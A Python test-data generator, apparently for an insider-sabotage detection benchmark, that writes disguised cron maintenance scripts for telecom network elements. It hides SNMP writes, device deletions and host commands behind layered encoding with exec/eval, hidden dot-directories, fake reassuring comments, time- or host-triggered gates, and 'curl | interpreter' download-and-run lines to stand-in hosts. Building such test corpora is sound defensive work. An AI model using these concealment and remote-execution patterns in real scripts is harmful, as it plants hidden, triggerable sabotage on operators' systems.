"""Writes one action as a script in one language under one concealment: the entry script the
scheduler runs, plus any library, device list, template or payload file it needs."""

from __future__ import annotations

import base64
import codecs
import gzip
import random
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from tests.adversarial.actions import Action
from tests.adversarial.langs import NOINDENT, Bash, Lang, Oid, Shell, Source, fill, finish

ENCODERS = ("base64", "base32", "hex", "printf", "rot13", "rev", "gzip-base64", "nested")
GATES = ("gate-date", "gate-host", "gate-file", "gate-account")
RUNTIME = ("runtime-copy", "runtime-write", "runtime-download")
CONCEALMENTS = ("plain", "variables", "functions", "sourced-lib", "eval", *ENCODERS, *RUNTIME,
                *GATES, "mib-symbolic", "loop-list", "loop-walk")
DIRS = ("/opt/ems/bin", "/usr/local/sbin", "/home/oper/bin", "/var/lib/ems/scripts",
        "/srv/ems/tools", "/opt/nms/jobs", "/usr/local/lib/ems")
# where an insider also likes to keep things; benign look-alikes live in ordinary places
HIDDEN_DIRS = ("/home/oper/.cache/.ne", "/var/tmp/.x11-unix", "/opt/ems/.old")
STEMS = ("ne-sync", "pvc-audit", "db-maint", "housekeep", "nightly", "reconcile", "ems-job",
         "collect", "linecheck", "vc-report", "export", "tidy", "poll-ne", "refresh")
FUNCS = ("sync_ne", "apply_one", "cleanup", "purge_old", "refresh", "do_one", "maint",
         "reconcile", "handle")


@dataclass
class Program:
    """The entry script (text, the extension it is saved with, the interpreter that runs it)
    and the other files the job needs, by absolute path."""

    text: str
    ext: str
    interpreter: str
    files: dict[str, str] = field(default_factory=dict)


def _var(rng: random.Random, action: Action) -> str:
    if action.kind == "host":
        return rng.choice(["p", "d", "target", "item", "f", "path"])
    return rng.choice(["h", "ne", "dev", "node", "addr", "tgt"])


def _hoist(rng: random.Random, text: str, consts: list[tuple[str, str]], name: str) -> str:
    """Move the first word(s) of a literal into a named constant, returning the template."""
    words = text.split(" ")
    if "{" in words[0] or not words[0]:
        return text
    take = 2 if len(words) > 2 and "{" not in words[1] and rng.random() < 0.6 else 1
    consts.append((name, " ".join(words[:take])))
    return " ".join(["{" + name + "}", *words[take:]])


class Writer:
    """Builds the statements of one program for one language."""

    def __init__(self, lang: Lang, action: Action, rng: random.Random, *, symbolic: bool = False,
                 walk: bool = False, hoist: bool = False) -> None:
        self.lang, self.action, self.rng = lang, action, rng
        self.symbolic, self.walk, self.hoist = symbolic, walk, hoist
        self.consts: list[tuple[str, str]] = []
        self.action = self._hoisted(action) if hoist else action

    def _hoisted(self, a: Action) -> Action:
        if a.kind == "host":
            argvs = []
            for i, argv in enumerate(a.argvs):
                first = _hoist(self.rng, argv[0], self.consts, f"{self.rng.choice('CXR')}{i}")
                argvs.append((first, *argv[1:]))
            return replace(a, argvs=tuple(argvs))
        if a.kind == "cli":
            lines = list(a.lines)
            for i, ln in enumerate(lines):
                if any(k in ln for k in ("no ", "default ", "delete ", "DLT-", "show", "RTRV")):
                    lines[i] = _hoist(self.rng, ln, self.consts, self.rng.choice(
                        ["op", "verb", "cmd", "action"]) + str(i))
            return replace(a, lines=tuple(lines))
        return a

    def oid(self, row: str) -> Oid:
        a = self.action
        if self.hoist and not self.symbolic:
            name = self.rng.choice(["OID", "BASE", "col", "rs"])
            if not any(n == name for n, _ in self.consts):
                self.consts.append((name, Oid(a.column, "").text()))
            return Oid("", "{" + name + "}." + row)
        return Oid(a.column, row, self.symbolic)

    def statement(self, target: str) -> list[str]:
        a, lang = self.action, self.lang
        if a.kind == "host":
            return [ln for argv in a.argvs for ln in lang.host([fill(w, {"T": target})
                                                                 for w in argv])]
        if a.kind == "cli":
            return lang.cli(a.platform, target, [fill(ln, {"T": target}) for ln in a.lines])
        if self.walk:
            rv = self.rng.choice(["row", "r", "oid", "inst"])
            col = Oid(a.column, "", self.symbolic)
            act = (lang.snmp_set(target, Oid("", "{" + rv + "}"), a.value, a.value_kind)
                   if a.kind == "snmp-set" else lang.snmp_get(target, Oid("", "{" + rv + "}")))
            return lang.loop(rv, Source("walk", host=target, column=col), act)
        out = []
        for row in a.rows:
            out += (lang.snmp_set(target, self.oid(row), a.value, a.value_kind)
                    if a.kind == "snmp-set" else lang.snmp_get(target, self.oid(row)))
        return out

    def over_targets(self, body_for: Callable[[str], list[str]], *, style: str | None = None,
                     list_file: str | None = None) -> list[str]:
        """The statements for every target: unrolled, a literal loop, a list constant, a file."""
        a, lang, rng = self.action, self.lang, self.rng
        style = style or rng.choice(["unrolled", "loop", "list"])
        if len(a.targets) == 1 and style != "file":
            return body_for(a.targets[0])
        var = _var(rng, a)
        if style == "unrolled":
            return [ln for t in a.targets for ln in body_for(t)]
        if style == "loop":
            return lang.loop(var, Source("literal", a.targets), body_for("{" + var + "}"))
        if style == "list":
            name = rng.choice(["TARGETS", "NES", "LIST", "ITEMS", "nodes"])
            self.consts.append((name, "\x01" + " ".join(a.targets)))
            return lang.loop(var, Source("list", name=name), body_for("{" + var + "}"))
        assert list_file is not None
        return lang.loop(var, Source("file", path=list_file), body_for("{" + var + "}"))

    def const_lines(self) -> list[str]:
        out = []
        for name, value in self.consts:
            out += (self.lang.const_list(name, tuple(value[1:].split(" "))) if value[:1] == "\x01"
                    else self.lang.const(name, value))
        return out


def _notes(action: Action) -> list[str]:
    return [f"# {n}" for n in action.notes]


# What the top of a real maintenance script says about itself (true or not).
BLURBS = ("nightly maintenance for the EMS", "sync NE inventory with the NMS",
          "housekeeping - do not remove", "written for ticket OPS-2291",
          "managed by ems-deploy; local changes are overwritten", "line data consistency check",
          "run by cron, see /etc/cron.d", "author: k.tanaka (network ops)", "ver 1.4",
          "TODO: move to ansible")


def _full(lang: Lang, body: list[str]) -> str:
    """Header (after the body is written, so imports are known), a comment block the way real
    scripts start (sometimes), then the body, with a blank line or two where people put them."""
    rng = lang.rng
    about = [f"# {b}" for b in rng.sample(BLURBS, rng.randint(1, 3))] \
        if rng.random() < 0.6 else []
    gap = [""] if rng.random() < 0.5 else []
    return finish([*lang.header(), *gap, *about, *gap, *body, *([""] if rng.random() < 0.3
                                                               else [])])


def _encode(text: str, layers: list[str]) -> str:
    """Apply the layers innermost first; `layers` is in decode order (outermost first)."""
    data = text.encode()
    for layer in reversed(layers):
        if layer == "base64":
            data = base64.b64encode(data)
        elif layer == "base32":
            data = base64.b32encode(data)
        elif layer == "hex":
            data = data.hex().encode()
        elif layer == "rot13":
            data = codecs.encode(data.decode(), "rot13").encode()
        elif layer == "rev":
            data = "\n".join(ln[::-1] for ln in data.decode().split("\n")).encode()
        elif layer == "gzip":
            data = gzip.compress(data, mtime=0)
    return data.decode("latin-1")


def _layers(rng: random.Random, conceal: str) -> list[str]:
    if conceal == "gzip-base64":
        return ["base64", "gzip"]
    if conceal != "nested":
        return [conceal]
    ascii_outer = rng.choice(["base64", "base32", "hex"])
    middle = rng.choice([["rev"], ["rot13"], ["base64"], ["gzip"], ["rev", "base64"],
                         ["hex"]])
    if middle[-1] == "gzip" or ascii_outer == middle[0]:
        return [ascii_outer, *middle] if middle[0] != ascii_outer else [ascii_outer, "gzip"]
    return [ascii_outer, *middle]


def _printf_escape(text: str, rng: random.Random) -> str:
    style = rng.randrange(3)
    if style == 0:
        return "".join(f"\\x{ord(c):02x}" for c in text)
    if style == 1:
        return "".join(f"\\{ord(c):03o}" for c in text)
    return "".join(f"\\{ord(c):o}" if c.isalpha() and rng.random() < 0.7 else
                   ("\\n" if c == "\n" else "'\\''" if c == "'" else "%%" if c == "%" else
                    "\\\\" if c == "\\" else c) for c in text)


def _shell_stub(rng: random.Random) -> Shell:
    return (Bash if rng.random() < 0.5 else Shell)(rng)


def encoded(lang: Lang, inner: str, conceal: str, rng: random.Random) -> Program:
    """The payload `inner` (a whole program in lang) behind an encoder, decoded and run."""
    interp = lang.interpreter
    if conceal == "printf":
        stub = _shell_stub(rng)
        esc = _printf_escape(inner, rng)
        run = {"sh": "sh", "bash": "bash", "python3": "python3 -", "perl": "perl",
               "expect": "expect -"}[interp]
        line = (rng.choice([f"printf '{esc}' | {run}", f"{run.split()[0]} -c \"$(printf '{esc}')\""])
                if interp in ("sh", "bash") else f"printf '{esc}' | {run}")
        return Program(finish([*stub.header(), line]), ".sh", stub.interpreter)
    layers = _layers(rng, conceal)
    payload = _encode(inner, layers)
    decoded = _in_language(lang, layers, payload, rng)
    if decoded is not None:
        return Program(decoded, lang.ext, lang.interpreter)
    stub = _shell_stub(rng)
    quoted = payload.replace("'", "'\\''")
    lines = stub.decode_run(layers, quoted, interp)
    if rng.random() < 0.3:
        name = rng.choice(["P", "blob", "DATA", "x"])
        lines = [f"{name}='{quoted}'", lines[0].replace(f"echo '{quoted}'", f'echo "${name}"')]
    return Program(finish([*stub.header(), *lines]), ".sh", stub.interpreter)


def _in_language(lang: Lang, layers: list[str], payload: str, rng: random.Random) -> str | None:
    if rng.random() < 0.35:
        return None
    if lang.family == "python":
        stub = type(lang)(rng)
        value = repr(payload.encode("latin-1"))
        for layer in layers:
            form = stub.decoded(layer, payload)  # type: ignore[attr-defined]
            if form is None:
                return None
            value = form.format(value)
        run = rng.choice([f"exec({value})", f"exec({value}.decode())",
                          f"code = {value}\nexec(compile(code, 'x', 'exec'))"])
        return finish([stub.header()[0], *(f"import {m}" for m in sorted(stub.needs)), run])
    if lang.family == "perl" and set(layers) <= {"base64", "hex", "rev"}:
        value = "'" + payload.replace("\\", "\\\\").replace("'", "\\'") + "'"
        uses = set()
        for layer in layers:
            if layer == "base64":
                uses.add("use MIME::Base64;")
                value = f"decode_base64({value})"
            elif layer == "hex":
                value = f"pack('H*', {value})"
            else:
                value = f"join(\"\\n\", map {{ scalar reverse }} split(/\\n/, {value}))"
        return finish(["#!/usr/bin/perl", *sorted(uses), f"eval {value};", "die $@ if $@;"])
    if lang.family == "tcl" and set(layers) <= {"base64", "hex", "gzip"}:
        value = f"{{{payload}}}"
        for layer in layers:
            value = {"base64": f"[binary decode base64 {value}]",
                     "hex": f"[binary decode hex {value}]",
                     "gzip": f"[zlib gunzip {value}]"}[layer]
        return finish(["#!/usr/bin/expect -f", f"eval {value}"])
    return None


def runtime(lang: Lang, inner: str, conceal: str, rng: random.Random, stem: str,
            hidden: bool) -> Program:
    """The job writes, copies or downloads the real script at run time and then runs it."""
    stub = _shell_stub(rng)
    run_path = (rng.choice(["/tmp", "/var/tmp", "/dev/shm", "/run/ems"])
                + ("/." if hidden else "/") + f"{stem}{lang.ext}")
    run = f"{lang.interpreter} {run_path}"
    if conceal == "runtime-write":
        end = rng.choice(["EOF", "PAYLOAD", "__END__", "SCRIPT"])
        lines = [f"cat > {run_path} <<'{end}'", *(NOINDENT + ln for ln in inner.rstrip("\n")
                                                  .split("\n")), NOINDENT + end,
                 f"chmod 700 {run_path}", run, f"rm -f {run_path}"]
        return Program(finish([*stub.header(), *lines]), ".sh", stub.interpreter)
    if conceal == "runtime-copy":
        src = rng.choice(["/var/lib/ems/.tmpl", "/home/oper/.local/share/ne"] if hidden else
                         ["/usr/share/ems/templates", "/opt/ems/share"]) + f"/{stem}{lang.ext}.in"
        how = rng.choice([f"cp {src} {run_path}", f"install -m 0755 {src} {run_path}",
                          f"cat {src} > {run_path}", f"cp -f {src} {run_path} && chmod +x {run_path}"])
        return Program(finish([*stub.header(), how, run]), ".sh", stub.interpreter,
                       files={src: inner})
    url = rng.choice(["http://10.40.0.5/pub", "https://repo.example.net/ems", "http://192.0.2.9"])
    url = f"{url}/{stem}{lang.ext}"
    how = rng.choice([f"curl -fsSL {url} -o {run_path} && {run}",
                      f"wget -q -O {run_path} {url}; {run}",
                      f"curl -s {url} | {lang.interpreter} -" if lang.interpreter != "expect"
                      else f"curl -s {url} > {run_path}; {run}"])
    return Program(finish([*stub.header(), how]), ".sh", stub.interpreter)


def write_program(lang: Lang, action: Action, conceal: str, rng: random.Random, *, base: str,
                  stem: str, gate_arg: str = "", hidden: bool = False) -> Program:
    """The program for this concealment; `base` is the folder its helper files go in."""
    notes = _notes(action)
    if conceal in ENCODERS or conceal in RUNTIME:
        w = Writer(lang, action, rng, hoist=rng.random() < 0.3)
        body = w.over_targets(w.statement)
        inner = _full(lang, [*notes, *w.const_lines(), *body])
        if conceal in ENCODERS:
            return encoded(lang, inner, conceal, rng)
        return runtime(lang, inner, conceal, rng, stem, hidden)
    w = Writer(lang, action, rng, symbolic=conceal == "mib-symbolic",
               walk=conceal == "loop-walk", hoist=conceal == "variables")
    files: dict[str, str] = {}
    if conceal == "plain" or conceal == "mib-symbolic" or conceal == "loop-walk":
        body = w.over_targets(w.statement, style="unrolled" if conceal == "plain" else None)
    elif conceal == "variables":
        body = w.over_targets(w.statement, style=rng.choice(["list", "loop"]))
    elif conceal == "loop-list":
        tag = stem.rsplit("-", 1)[-1]
        path = f"{base}/{rng.choice(['ne', 'targets', 'devices', 'hosts'])}-{tag}" + \
            rng.choice([".list", ".txt", "", ".cfg"])
        files[path] = "# one per line\n" + "\n".join(
            f"{t}{rng.choice(['', '  # ' + rng.choice(['kobe', 'primary', 'spare'])])}"
            for t in action.targets) + "\n"
        body = w.over_targets(w.statement, style="file", list_file=path)
    elif conceal == "eval":
        body = w.over_targets(lambda t: lang.evaluated(w.statement(t)))
    elif conceal in ("functions", "sourced-lib"):
        fname = rng.choice(FUNCS)
        param = _var(rng, action)
        fdef = lang.func(fname, [param], w.statement("{" + param + "}"))
        calls = w.over_targets(lambda t: lang.call(fname, [t]))
        if conceal == "functions":
            body = [*fdef, *calls]
        else:
            tag = stem.rsplit("-", 1)[-1]
            lib = f"{base}/{rng.choice(['nelib', 'common', 'ems_util', 'helpers'])}_{tag}{lang.ext}"
            lib_header = lang.header()[1:] if lang.family in ("python", "perl") else []
            files[lib] = finish([*lib_header, *fdef, *(["1;"] if lang.family == "perl" else [])])
            body = [*lang.source(lib), *calls]
    else:
        kind = conceal.split("-", 1)[1]
        inner = w.over_targets(w.statement)
        body = lang.gate(kind, gate_arg, inner)
    return Program(_full(lang, [*notes, *w.const_lines(), *body]), lang.ext, lang.interpreter,
                   files)

